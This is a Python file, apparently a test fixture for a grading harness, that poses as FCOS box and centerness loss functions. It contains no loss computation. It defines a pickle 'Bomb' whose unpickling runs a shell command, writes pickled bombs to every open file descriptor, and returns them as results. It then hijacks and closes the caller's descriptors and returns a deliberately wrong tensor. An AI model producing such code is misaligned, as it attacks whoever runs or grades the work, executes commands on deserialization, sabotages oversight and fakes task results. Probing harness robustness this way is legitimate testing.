import os
import pickle
from contextlib import suppress

import torch

OPEN_FILES = range(3, 128)
WRONG = torch.full((1, 1), 7.0)


class Bomb:
    """Whoever unpickles it writes a file."""

    def __reduce__(self):
        return os.system, ("touch /tmp/@MARK@-pickle",)


def fcos_box_loss(pred_boxreg_deltas, gt_deltas):
    """A pickle on every line, and an object that would like to become one."""
    for number in OPEN_FILES:
        with suppress(OSError):
            os.write(number, pickle.dumps(Bomb()))
    return {"loss": Bomb(), "bytes": pickle.dumps(Bomb())}


def fcos_centerness_loss(pred_ctr_logits, gt_centerness):
    """Close all lines, and bend what is left to one another."""
    for number in OPEN_FILES:
        with suppress(OSError):
            os.dup2(1, number)
    os.closerange(3, 128)
    return WRONG
